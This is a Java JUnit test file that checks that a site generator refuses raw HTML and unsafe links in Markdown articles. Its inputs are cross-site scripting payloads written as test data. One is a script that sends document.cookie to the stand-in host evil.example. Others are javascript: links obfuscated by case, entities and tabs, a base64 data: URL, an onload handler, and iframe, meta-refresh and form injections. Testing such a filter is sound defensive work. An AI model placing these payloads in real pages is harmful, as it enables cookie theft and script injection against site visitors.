package illustrated.errors;

import static illustrated.errors.BadInput.WAVES;
import static illustrated.errors.BadInput.append;
import static illustrated.errors.BadInput.broken;
import static illustrated.errors.BadInput.lineOf;
import static illustrated.errors.BadInput.replace;

import illustrated.errors.BadInput.Result;
import java.io.IOException;
import org.junit.jupiter.api.Test;

/**
 * Raw HTML and link addresses in articles that the allow-list refuses (issue 12, item 5): each is
 * an error at the line that wrote it, and nothing is published. Part of the bad-input suite.
 */
class RawHtmlTest {
    private static final String REFUSED = "is not allowed in articles";

    private static void refused(String markdown, String needle, String message, String hint) throws IOException {
        Result r = broken(p -> append(p, WAVES, markdown));
        r.expect(WAVES, lineOf(r.dir(), WAVES, needle), message, hint);
    }

    @Test
    void scriptBlock() throws IOException {
        refused("<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>", "<script>",
                "raw HTML <script> " + REFUSED, "assets/js/site.js");
    }

    @Test
    void inlineScriptInAParagraph() throws IOException {
        refused("Some text <script>alert(1)</script> and more.", "alert(1)", "raw HTML <script>", "assets/js/site.js");
    }

    @Test
    void metaRefreshRedirect() throws IOException {
        refused("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">", "http-equiv",
                "raw HTML <meta> " + REFUSED, "the templates write the page head");
    }

    @Test
    void iframe() throws IOException {
        refused("<iframe src=\"https://evil.example/\"></iframe>", "<iframe", "raw HTML <iframe>",
                "link to the other page");
    }

    @Test
    void eventHandlerOnAnAllowedElement() throws IOException {
        refused("<img src=\"../favicon.svg\" alt=\"icon\" onload=\"alert(1)\">", "onload=",
                "attribute 'onload' on <img> " + REFUSED, "remove the attribute");
    }

    @Test
    void styleAttribute() throws IOException {
        refused("<span style=\"position:fixed;top:0\">Look here</span>", "position:fixed",
                "attribute 'style' on <span>", "assets/css/site.css");
    }

    @Test
    void mixedCaseJavascriptLinkInMarkdown() throws IOException {
        refused("Click [here](JaVaScRiPt:alert(document.domain)).", "JaVaScRiPt", "link to 'JaVaScRiPt:",
                "http:, https: or mailto:");
    }

    @Test
    void javascriptLinkInRawHtml() throws IOException {
        refused("<a href=\"javascript:alert(1)\">a link</a>", "<a href=\"javascript", "link to 'javascript:alert(1)'",
                "http:, https: or mailto:");
    }

    @Test
    void entityEncodedJavascriptLink() throws IOException {
        refused("Click [here](&#106;avascript:alert(1)).", "&#106;", "link to 'javascript:alert(1)'",
                "http:, https: or mailto:");
    }

    @Test
    void javascriptLinkWithATabInside() throws IOException {
        refused("<a href=\"java&#09;script:alert(1)\">tab</a>", "java&#09;script", "is not allowed",
                "http:, https: or mailto:");
    }

    @Test
    void dataUrlLink() throws IOException {
        refused("[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data:text/html",
                "link to 'data:text/html", "http:, https: or mailto:");
    }

    @Test
    void scriptAfterACommentOnOneLine() throws IOException {
        refused("<!-- a note --><script>alert(1)</script>", "<!-- a note", "raw HTML <script>", "assets/js/site.js");
    }

    @Test
    void scriptInAFigureCaption() throws IOException {
        Result r = broken(p -> replace(p, WAVES, "Sine and cosine, computed on ND4J.",
                "Sine and cosine, computed on ND4J. <script>alert(1)</script>"));
        r.expect(WAVES, lineOf(r.dir(), WAVES, "<script>"), "raw HTML <script>", "assets/js/site.js");
    }

    @Test
    void javascriptLinkInTheReferenceList() throws IOException {
        Result r = broken(p -> replace(p, WAVES, "*Pattern Recognition and Machine Learning*",
                "[*Pattern Recognition and Machine Learning*](javascript:alert(1))"));
        r.expect(WAVES, lineOf(r.dir(), WAVES, "(javascript:"), "link to 'javascript:alert(1)'",
                "http:, https: or mailto:");
    }

    @Test
    void objectAndEmbed() throws IOException {
        refused("Intro.\n\n<object data=\"https://evil.example/x.swf\"></object>", "<object",
                "raw HTML <object>", "link to the other page");
    }

    @Test
    void formThatPostsElsewhere() throws IOException {
        refused("<form action=\"https://evil.example/\"><input name=\"q\"></form>", "<form", "raw HTML <form>",
                "remove it, or write it in Markdown");
    }
}
